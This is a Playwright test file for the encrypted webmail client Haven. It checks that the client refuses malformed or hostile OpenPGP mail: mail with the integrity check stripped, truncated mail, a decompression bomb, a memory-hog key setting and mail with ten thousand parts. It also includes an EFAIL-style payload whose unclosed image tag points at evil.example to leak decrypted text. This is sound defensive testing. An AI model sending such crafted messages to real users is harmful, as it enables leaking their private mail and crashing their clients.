import * as openpgp from 'openpgp'
import type { Page } from '@playwright/test'
import { mallorys, Smith } from '../fixtures/hostile.ts'
import type { MailPage } from '../fixtures/mail_page.ts'
import type { MailRelay } from '../fixtures/mail_relay.ts'
import { expect, test as withMail } from '../fixtures/mail_test.ts'
import { encryptedMail, header } from '../fixtures/mime.ts'
import { Trap } from '../fixtures/trap.ts'

const SECRET = 'The heliotrope is under the third stone.'
const LETTER = `Content-Type: text/plain; charset=utf-8\r\n\r\n${SECRET}\r\n`
const ORDINARY = 'Content-Type: text/plain\r\n\r\nNothing special.\r\n'
const MANY_PARTS = `Content-Type: multipart/mixed; boundary=b\r\n\r\n${'--b\r\n\r\nx\r\n'.repeat(10_000)}--b--\r\n`

const NOT_INTACT = [
  'This mail was changed or is not safe to open',
  'It came without working protection against changes, so Haven shows nothing of it: opening such mail can give away what is in it. Ask the sender to send it again with an up-to-date program.',
]
const NO_KEY = [
  'This mail is locked for somebody else',
  'The sender used a key that is not yours, or an old one of yours that is not in Haven. Ask them to send it again with the key that your address has now.',
]
const tooMuch = (what: string) => [
  'There is too much in this mail',
  `It goes beyond what Haven opens (${what}), as mail does that is made to harm. If you expected it, ask the sender to split it.`,
]

/** Alice's browser, in which nothing but her relay can be reached, and what it asked for. */
const test = withMail.extend<{ trap: Trap; requests: string[]; smith: Smith }>({
  trap: async ({ playwright, launchOptions }, use) => {
    const trap = await Trap.set(playwright, launchOptions)
    await use(trap)
    await trap.close()
  },
  context: async ({ trap }, use) => use(await trap.context()),
  requests: async ({ context }, use) => {
    const requests: string[] = []
    context.on('request', request => requests.push(request.url()))
    await use(requests)
  },
  smith: async ({ alice }, use) => {
    const key = await openpgp.readKey({ armoredKey: await alice.publicKey() })
    await use(new Smith(key.write()))
  },
})

async function deliver(host: MailRelay, mail: string) {
  expect(await host.deliver('mallory@evil.example', 'alice@localhost', mail)).toMatch(/^250/)
}

/** Nothing went anywhere but to the relay. */
function expectSilence(host: MailRelay, trap: Trap, requests: string[]) {
  expect(new Set(requests.map(url => new URL(url).origin))).toEqual(new Set([host.origin]))
  expect(trap).toMatchObject({ knocks: 0, dialogs: [] })
}

/** That these are still at work, and no others in their place. */
function expectAlive(page: Page, workers: ReturnType<Page['workers']>) {
  expect(workers.length).toBeGreaterThan(0)
  expect(workers.every(worker => page.workers().includes(worker))).toBe(true)
}

/** What is open is nothing but this notice, and a mail that comes next can be read. */
async function expectRefusal(mail: MailPage, host: MailRelay, smith: Smith, said: string[], subject: string) {
  await expect(mail.cards.getByRole('alert').locator('p')).toHaveText(said)
  await expect(mail.page.getByRole('alert')).toHaveCount(1)
  await expect(mail.page.locator('iframe, .mail-body p, .files')).toHaveCount(0)
  await expect(mail.page.getByText(SECRET)).toHaveCount(0)
  await mail.openFolder('Inbox')
  await deliver(host, encryptedMail(mallorys(`After: ${subject}`), await smith.sound(ORDINARY)))
  const card = await mail.read(`After: ${subject}`)
  await expect(card.locator('.mail-body')).toHaveText('Nothing special.')
  await expect(card.getByRole('button', { name: 'End-to-end' })).toBeVisible()
  await mail.openFolder('Inbox')
}

test('a hostile message shows one clear word and nothing of itself, and the next mail opens', async ({ host, mail, smith, requests, trap }) => {
  await mail.open()
  const workers = mail.page.workers()
  const messages: [subject: string, message: string, said: string[]][] = [
    ['Its integrity check was taken away', await smith.unchecked(LETTER), NOT_INTACT],
    ['It breaks off', await smith.cutOff(LETTER), NOT_INTACT],
    ['It unpacks to a thousand times its size', await smith.bomb(80), tooMuch('bytes when unpacked')],
    ['It wants 2 TiB of memory for a password', await smith.memoryHog(LETTER), NO_KEY],
    ['It has ten thousand parts inside', await smith.sound(MANY_PARTS), tooMuch('parts')],
  ]
  for (const [subject, message, said] of messages) {
    await deliver(host, encryptedMail(mallorys(subject), message))
    await mail.read(subject)
    await test.step(subject, () => expectRefusal(mail, host, smith, said, subject))
  }
  expectAlive(mail.page, workers)
  expectSilence(host, trap, requests)
})

test('a mail of ten thousand parts shows one clear word, and the next mail opens', async ({ host, mail, smith, requests, trap }) => {
  await mail.open()
  const workers = mail.page.workers()
  await deliver(host, header(mallorys('Parts')) + MANY_PARTS)
  await mail.rows.click()
  await expectRefusal(mail, host, smith, tooMuch('parts'), 'Parts')
  expectAlive(mail.page, workers)
  expectSilence(host, trap, requests)
})

const part = (kind: string, body: string) => `Content-Type: ${kind}\r\n\r\n${body}\r\n`
const inParts = (kind: string, parts: string[]) => {
  const body = [...parts.map(part => `--around-${kind}\r\n${part}`), `--around-${kind}--`].join('')
  return part(`multipart/${kind}; protocol="application/pgp-encrypted"; boundary="around-${kind}"`, body)
}

test('pictures that stand around an encrypted part never learn what is in it', async ({ host, mail, smith, requests, trap }) => {
  const before = part('text/html', '<p>Dear Alice</p><img src="http://evil.example/seen.gif"><img src="http://evil.example/?')
  const after = part('text/html', '"><p>Yours</p>')
  const control = part('application/pgp-encrypted', 'Version: 1')
  const message = await smith.sound(LETTER)
  const data = part('application/octet-stream', message)
  const encrypted = inParts('encrypted', [control, data])
  const inline = part('text/plain', await smith.sound(SECRET))
  // Either what was encrypted is shown, or what stands around it.
  const wrapped: [name: string, shows: 'inside' | 'outside', body: string][] = [
    ['mixed', 'outside', inParts('mixed', [before, encrypted, after])],
    ['related', 'outside', inParts('related', [before, encrypted, after])],
    ['alternative', 'outside', inParts('alternative', [before, encrypted, after])],
    ['as a list does it', 'inside', inParts('mixed', [encrypted, before, after])],
    ['as Exchange does it', 'inside', inParts('mixed', [before, control, data, after])],
    ['without PGP/MIME', 'inside', inParts('mixed', [before, inline, after])],
  ]
  await mail.open()
  for (const [name, shows, body] of wrapped) {
    await deliver(host, `${header(mallorys(name))}MIME-Version: 1.0\r\n${body}`)
    const card = await mail.read(name)
    const outside = mail.page.frameLocator('iframe.mail-frame')
    if (shows === 'inside') {
      await expect(card.locator('.mail-body'), name).toHaveText(SECRET)
      await expect(mail.page.locator('iframe'), name).toHaveCount(0)
    } else {
      await expect(outside.getByText('Dear Alice'), name).toBeVisible()
      await expect(outside.locator('img[src]'), name).toHaveCount(0)
      await expect(card.getByText('Pictures from elsewhere were left out'), name).toBeVisible()
      await expect(mail.page.getByText(SECRET), name).toHaveCount(0)
      await expect(outside.getByText(SECRET), name).toHaveCount(0)
    }
    await mail.openFolder('Inbox')
  }
  expectSilence(host, trap, requests)
})
